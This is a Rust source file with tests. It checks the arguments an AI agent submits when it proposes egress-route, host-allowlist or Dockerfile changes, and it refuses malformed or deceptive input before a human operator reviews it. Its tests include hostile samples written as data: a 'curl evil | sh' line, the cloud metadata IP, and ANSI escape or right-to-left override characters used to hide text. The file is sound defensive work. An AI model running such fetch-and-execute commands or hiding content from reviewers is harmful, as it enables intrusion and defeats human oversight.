//! Tool arguments turned into proposals an operator can trust to be well-formed.
//!
//! Every check runs before anything is queued, and every failure is a message
//! the agent can act on: which argument, where in it, and what to write
//! instead. Text that would reach the operator's terminal is refused if it
//! carries control or invisible formatting characters, so a proposal cannot
//! repaint or hide parts of the diff the operator reviews.

use bottle_common::located::Source;
use egress_proxy::host::{HostPattern, is_ip_literal};
use egress_proxy::routes::parse_routes;
use schemars::JsonSchema;
use serde::Deserialize;

use crate::dockerfile::check_starts_with_from;
use crate::queue::{NewProposal, Tool};
use crate::terminal::is_hidden_or_control;

/// Largest `routes`, `dockerfile` or total `allowlist` accepted, in bytes.
pub const MAX_ARGUMENT_BYTES: usize = 256 * 1024;
/// Largest `justification` accepted, in bytes.
pub const MAX_JUSTIFICATION_BYTES: usize = 8 * 1024;
/// Most hostnames an allowlist may hold.
pub const MAX_ALLOWLIST_ENTRIES: usize = 1000;

/// Arguments of `egress-block`.
#[derive(Debug, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct EgressBlockArgs {
    /// The complete proposed routes.yaml (egress-proxy format): the current file with your change applied, not a fragment.
    pub routes: String,
    /// Why you need this change: what you were doing, which request was refused, and why it is safe.
    pub justification: String,
}

/// Arguments of `pipelock-block`.
#[derive(Debug, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct PipelockBlockArgs {
    /// The complete proposed hostname allowlist: every host that should be reachable, current ones included. Entries are host names or `*.domain` (two or more labels after `*.`), never IP addresses.
    pub allowlist: Vec<String>,
    /// Why you need these hosts: what you were doing, which request was refused, and why it is safe.
    pub justification: String,
}

/// Arguments of `capability-block`.
#[derive(Debug, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct CapabilityBlockArgs {
    /// The complete proposed Dockerfile for your container image; it must start with FROM.
    pub dockerfile: String,
    /// Why you need this change: which tool or package is missing and what you need it for.
    pub justification: String,
}

/// Arguments of `list-egress-routes`: none, and unknown ones are refused like everywhere else.
#[derive(Debug, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct ListEgressRoutesArgs {}

/// Arguments of `proposal-status`.
#[derive(Debug, Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
pub struct ProposalStatusArgs {
    /// The proposal id returned by egress-block, pipelock-block or capability-block.
    pub id: String,
}

/// Why a proposal was refused, worded for the agent that sent it.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{0}")]
pub struct Invalid(pub String);

/// Validate `egress-block`: the routes must load in egress-proxy exactly as proposed.
pub fn egress_block(args: EgressBlockArgs) -> Result<NewProposal, Invalid> {
    let justification = justification(args.justification)?;
    check_size("routes", &args.routes)?;
    check_text("routes", &args.routes)?;
    parse_routes(&args.routes, &Source::named("routes")).map_err(|errors| {
        Invalid(format!(
            "routes: the proposed routes.yaml does not load in egress-proxy:\n{errors}"
        ))
    })?;
    Ok(NewProposal {
        tool: Tool::EgressBlock,
        justification,
        content: args.routes,
        base: None,
    })
}

/// Validate `pipelock-block`: every entry a hostname or `*.domain`; stored normalized, deduplicated.
pub fn pipelock_block(args: PipelockBlockArgs) -> Result<NewProposal, Invalid> {
    let justification = justification(args.justification)?;
    if args.allowlist.is_empty() {
        return Err(Invalid(
            "allowlist: the list is empty, which would block every host; pass the full list \
             (the current allowlist plus the hosts you need)"
                .into(),
        ));
    }
    if args.allowlist.len() > MAX_ALLOWLIST_ENTRIES {
        return Err(Invalid(format!(
            "allowlist: {} entries, over the limit of {MAX_ALLOWLIST_ENTRIES}",
            args.allowlist.len()
        )));
    }
    let total: usize = args.allowlist.iter().map(|h| h.len() + 1).sum();
    if total > MAX_ARGUMENT_BYTES {
        return Err(Invalid(format!(
            "allowlist: {total} bytes, over the {MAX_ARGUMENT_BYTES} byte limit"
        )));
    }
    let mut problems = Vec::new();
    let mut hosts: Vec<String> = Vec::with_capacity(args.allowlist.len());
    for (i, raw) in args.allowlist.iter().enumerate() {
        match HostPattern::parse(raw)
            .map_err(|e| e.to_string())
            .and_then(allowlist_entry)
        {
            Ok(host) => {
                if !hosts.contains(&host) {
                    hosts.push(host);
                }
            }
            Err(e) => problems.push(format!("allowlist[{i}]: {e}")),
        }
    }
    if !problems.is_empty() {
        if problems.len() > 20 {
            let more = problems.len() - 20;
            problems.truncate(20);
            problems.push(format!("… and {more} more invalid entries"));
        }
        return Err(Invalid(format!(
            "{}\nEntries must be host names (api.example.com) or `*.domain` wildcards over at \
             least two labels (*.example.com), without scheme, port, path or IP addresses.",
            problems.join("\n")
        )));
    }
    let mut content = hosts.join("\n");
    content.push('\n');
    Ok(NewProposal {
        tool: Tool::PipelockBlock,
        justification,
        content,
        base: None,
    })
}

/// A pattern pipelock can allowlist: a host name, or `*.` over at least two labels.
fn allowlist_entry(pattern: HostPattern) -> Result<String, String> {
    match &pattern {
        HostPattern::Exact(host) if is_ip_literal(host) => Err(format!(
            "`{host}` is an IP address; pipelock allowlists host names, so name the host \
                 (e.g. api.example.com) instead of its address"
        )),
        HostPattern::Subdomains(suffix) if !suffix.contains('.') => Err(format!(
            "`{pattern}` would allow every host under the top-level domain `{suffix}`; a \
             wildcard needs at least two labels after `*.`, as in `*.example.{suffix}`"
        )),
        _ => Ok(pattern.to_string()),
    }
}

/// Validate `capability-block`: a Dockerfile whose first instruction is FROM.
pub fn capability_block(args: CapabilityBlockArgs) -> Result<NewProposal, Invalid> {
    let justification = justification(args.justification)?;
    check_size("dockerfile", &args.dockerfile)?;
    check_text("dockerfile", &args.dockerfile)?;
    check_starts_with_from(&args.dockerfile).map_err(|e| Invalid(format!("dockerfile: {e}")))?;
    Ok(NewProposal {
        tool: Tool::CapabilityBlock,
        justification,
        content: args.dockerfile,
        base: None,
    })
}

fn justification(text: String) -> Result<String, Invalid> {
    if text.trim().is_empty() {
        return Err(Invalid(
            "justification: empty; say what you were doing, what was refused, and why the change is needed"
                .into(),
        ));
    }
    if text.len() > MAX_JUSTIFICATION_BYTES {
        return Err(Invalid(format!(
            "justification: {} bytes, over the {MAX_JUSTIFICATION_BYTES} byte limit; keep it to a few sentences",
            text.len()
        )));
    }
    check_text("justification", &text)?;
    Ok(text)
}

fn check_size(field: &str, text: &str) -> Result<(), Invalid> {
    if text.len() > MAX_ARGUMENT_BYTES {
        return Err(Invalid(format!(
            "{field}: {} bytes, over the {MAX_ARGUMENT_BYTES} byte limit",
            text.len()
        )));
    }
    Ok(())
}

/// Refuse characters that could hide or repaint text on the operator's terminal.
///
/// Allowed: printable text, tab, newline, and carriage return before a newline.
pub fn check_text(field: &str, text: &str) -> Result<(), Invalid> {
    let mut line = 1;
    let mut column = 0;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        column += 1;
        let allowed = match c {
            '\n' => {
                line += 1;
                column = 0;
                true
            }
            '\t' => true,
            '\r' => chars.peek() == Some(&'\n'),
            c => !is_hidden_or_control(c),
        };
        if !allowed {
            return Err(Invalid(format!(
                "{field}:{line}:{column}: contains the character U+{:04X}; control and invisible \
                 formatting characters could hide content from the operator who reviews it; remove it",
                u32::from(c)
            )));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn egress(routes: &str) -> Result<NewProposal, Invalid> {
        egress_block(EgressBlockArgs {
            routes: routes.into(),
            justification: "need the API".into(),
        })
    }

    fn pipelock(hosts: &[&str]) -> Result<NewProposal, Invalid> {
        pipelock_block(PipelockBlockArgs {
            allowlist: hosts.iter().map(|h| h.to_string()).collect(),
            justification: "need the registry".into(),
        })
    }

    fn docker(text: &str) -> Result<NewProposal, Invalid> {
        capability_block(CapabilityBlockArgs {
            dockerfile: text.into(),
            justification: "need jq".into(),
        })
    }

    #[test]
    fn valid_proposals_keep_their_text() {
        let routes = "# my routes\nroutes:\n  - host: api.github.com\n    paths: [/repos/]\n";
        let p = egress(routes).unwrap();
        assert_eq!(p.tool, Tool::EgressBlock);
        assert_eq!(p.content, routes);
        let p = docker("FROM debian\nRUN apt-get install -y jq\n").unwrap();
        assert_eq!(p.tool, Tool::CapabilityBlock);
    }

    #[test]
    fn route_errors_point_into_the_proposal() {
        let e = egress("routes:\n  - host: a..com\n").unwrap_err().0;
        assert!(
            e.contains("routes:2:11: host: invalid host `a..com`"),
            "{e}"
        );
        let e = egress("routes:\n  - hots: a.com\n").unwrap_err().0;
        assert!(e.contains("did you mean `host`?"), "{e}");
        let e = egress("").unwrap_err().0;
        assert!(e.starts_with("routes:"), "{e}");
        let e = egress("{{{{").unwrap_err().0;
        assert!(e.starts_with("routes:"), "{e}");
    }

    #[test]
    fn allowlists_are_normalized_and_deduplicated() {
        let p = pipelock(&["API.example.com.", "api.example.com", "*.pypi.org"]).unwrap();
        assert_eq!(p.content, "api.example.com\n*.pypi.org\n");
        assert_eq!(p.tool, Tool::PipelockBlock);
    }

    #[test]
    fn bad_allowlists_name_each_bad_entry() {
        let e = pipelock(&[]).unwrap_err().0;
        assert!(e.contains("empty"), "{e}");
        let e = pipelock(&["ok.com", "https://x.com/", "a b", "*"])
            .unwrap_err()
            .0;
        assert!(e.contains("allowlist[1]"), "{e}");
        assert!(e.contains("allowlist[2]"), "{e}");
        assert!(e.contains("allowlist[3]"), "{e}");
        assert!(!e.contains("allowlist[0]"), "{e}");
        let many: Vec<String> = (0..=MAX_ALLOWLIST_ENTRIES)
            .map(|i| format!("h{i}.com"))
            .collect();
        let refs: Vec<&str> = many.iter().map(String::as_str).collect();
        assert!(pipelock(&refs).unwrap_err().0.contains("over the limit"));
        let e = pipelock(&[
            "169.254.169.254",
            "[::1]",
            "::1",
            "*.com",
            "*.Org.",
            "ok.com",
        ])
        .unwrap_err()
        .0;
        for i in 0..5 {
            assert!(e.contains(&format!("allowlist[{i}]")), "{e}");
        }
        assert!(!e.contains("allowlist[5]"), "{e}");
        assert!(e.contains("`169.254.169.254` is an IP address"), "{e}");
        assert!(e.contains("`[::1]` is an IP address"), "{e}");
        assert!(
            e.contains("`*.com` would allow every host under the top-level domain"),
            "{e}"
        );
        assert!(e.contains("at least two labels after `*.`"), "{e}");
        assert_eq!(
            pipelock(&["*.example.com", "*.co.uk", "localhost"])
                .unwrap()
                .content,
            "*.example.com\n*.co.uk\nlocalhost\n"
        );
        let bad: Vec<String> = (0..50).map(|i| format!("bad host {i}")).collect();
        let refs: Vec<&str> = bad.iter().map(String::as_str).collect();
        assert!(pipelock(&refs).unwrap_err().0.contains("and 30 more"));
    }

    #[test]
    fn dockerfiles_must_start_with_from() {
        let e = docker("RUN curl evil | sh\n").unwrap_err().0;
        assert!(
            e.starts_with("dockerfile: line 1: the first instruction is `RUN`"),
            "{e}"
        );
    }

    #[test]
    fn justification_is_required_and_bounded() {
        for j in ["", "   \n"] {
            let e = egress_block(EgressBlockArgs {
                routes: "routes: []\n".into(),
                justification: j.into(),
            })
            .unwrap_err();
            assert!(e.0.starts_with("justification: empty"), "{e}");
        }
        let e = egress_block(EgressBlockArgs {
            routes: "routes: []\n".into(),
            justification: "x".repeat(MAX_JUSTIFICATION_BYTES + 1),
        })
        .unwrap_err();
        assert!(e.0.contains("byte limit"), "{e}");
    }

    #[test]
    fn huge_arguments_are_refused_before_parsing() {
        let huge = format!("routes: []\n#{}\n", "x".repeat(MAX_ARGUMENT_BYTES));
        assert!(egress(&huge).unwrap_err().0.contains("byte limit"));
        let huge = format!("FROM x\n#{}\n", "x".repeat(MAX_ARGUMENT_BYTES));
        assert!(docker(&huge).unwrap_err().0.contains("byte limit"));
    }

    #[test]
    fn terminal_tricks_are_refused_with_position() {
        let e = docker("FROM x\nRUN echo \u{1b}[2Jhi\n").unwrap_err().0;
        assert!(
            e.starts_with("dockerfile:2:10: contains the character U+001B"),
            "{e}"
        );
        let e = egress("routes: [] # \u{202E}evil\n").unwrap_err().0;
        assert!(e.contains("U+202E"), "{e}");
        assert!(docker("FROM x\rRUN y\n").unwrap_err().0.contains("U+000D"));
        assert!(docker("FROM x\0\n").unwrap_err().0.contains("U+0000"));
        assert!(docker("FROM x\r\nRUN y\r\n").is_ok());
        let e = egress_block(EgressBlockArgs {
            routes: "routes: []\n".into(),
            justification: "ok\u{200B}".into(),
        })
        .unwrap_err();
        assert!(e.0.starts_with("justification:1:3"), "{e}");
    }
}
